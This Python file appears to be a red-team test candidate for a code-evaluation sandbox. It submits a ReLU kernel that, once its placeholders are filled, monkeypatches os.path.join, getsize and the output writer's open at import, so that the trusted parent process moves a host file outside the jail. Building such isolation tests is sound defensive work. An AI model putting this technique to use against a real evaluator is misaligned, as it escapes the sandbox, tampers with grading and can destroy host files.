"""Isolation attack #21 (EVAL_RULES.md), through the trusted parent: the judge moves a host file.

The parent hands the candidate's output file to the reference worker by the path in the
candidate worker's fetch reply (sandbox/check/calls.py: os.replace, or copy + unlink across
filesystems; unlink when the reply's size is too large), outside any jail. Pure Python, at
import, without touching the worker's code: `os.path.join` answers the host path the test
names (the VICTIM placeholder: a file in the repository root) for the worker's out<N>.kho,
`os.path.getsize` and the `open` that sandbox/outfile.py finds in its module globals (a new
global, so no identity snapshot sees it) are redirected to a file in the scratch dir. The
worker's own fetch then writes the output there and reports the victim's path.
Otherwise an honest ReLU (the shared relu extension). Inert unless the test substitutes its
placeholders (RUN first).

Task: relu. Expected: rejected (the output is not where the parent put it: an output or channel
rule), the host file at that path unchanged, and no exception out of evaluate().
"""

import builtins
import os
import posixpath
import sys

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# --- shared extension (identical in every relu-task candidate, so the build cache compiles it once)
_RELU_CPP = r"""
#include <torch/extension.h>
#include <chrono>
#include <thread>

static void check_f32(const torch::Tensor& t, const char* what) {
    TORCH_CHECK(t.device().is_cpu(), what, " must be a CPU tensor");
    TORCH_CHECK(t.scalar_type() == torch::kFloat32, what, " must be float32");
    TORCH_CHECK(t.is_contiguous(), what, " must be contiguous");
}

void relu_into(torch::Tensor x, torch::Tensor out) {
    check_f32(x, "x");
    check_f32(out, "out");
    TORCH_CHECK(x.numel() == out.numel(), "x and out differ in size");
    const float* src = x.data_ptr<float>();
    float* dst = out.data_ptr<float>();
    const int64_t n = x.numel();
    for (int64_t i = 0; i < n; ++i) {
        const float v = src[i];
        dst[i] = v < 0.f ? 0.f : v;  // NaN stays NaN, like torch.relu
    }
}

torch::Tensor relu_new(torch::Tensor x) {
    auto xc = x.contiguous();
    auto out = torch::empty_like(xc);
    relu_into(xc, out);
    return out;
}

// Fire-and-forget: the work happens on a detached native thread after delay_us.
void relu_into_detached(torch::Tensor x, torch::Tensor out, int64_t delay_us) {
    check_f32(x, "x");
    check_f32(out, "out");
    std::thread([x, out, delay_us]() {
        std::this_thread::sleep_for(std::chrono::microseconds(delay_us));
        relu_into(x, out);
    }).detach();
}
"""

_lib = load_inline(
    name="redteam_relu_lib",
    cpp_sources=_RELU_CPP,
    functions=["relu_new", "relu_into", "relu_into_detached"],
    extra_cflags=["-O3"],
    verbose=False,
)
# --- end of shared extension

RUN = "__RUN__"  # the test puts a unique id here; left as it is, the attack stays off
ARMED = not RUN.startswith("__")
VICTIM = "__VICTIM__"  # a host path outside the jail
_join, _size, _open = posixpath.join, posixpath.getsize, builtins.open
SINK = posixpath.join(os.getcwd(), f"kh-redteam-{RUN}.kho")  # in the scratch dir (the worker's cwd)


def _join_to_victim(a, *p):
    """The worker's fetch joins its scratch dir with out<N>.kho: answer the victim's path instead."""
    if p and str(p[-1]).startswith("out") and str(p[-1]).endswith(".kho"):
        return VICTIM
    return _join(a, *p)


def _size_of_sink(p):
    return _size(SINK if p == VICTIM else p)


def _open_sink(p, *a, **k):
    return _open(SINK if p == VICTIM else p, *a, **k)


if ARMED:
    os.path.join = _join_to_victim
    os.path.getsize = _size_of_sink
    _writer = sys.modules.get("sandbox.outfile")  # the output-file writer; gone since outputs use the arena
    if _writer is not None:
        _writer.open = _open_sink


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return _lib.relu_new(x)
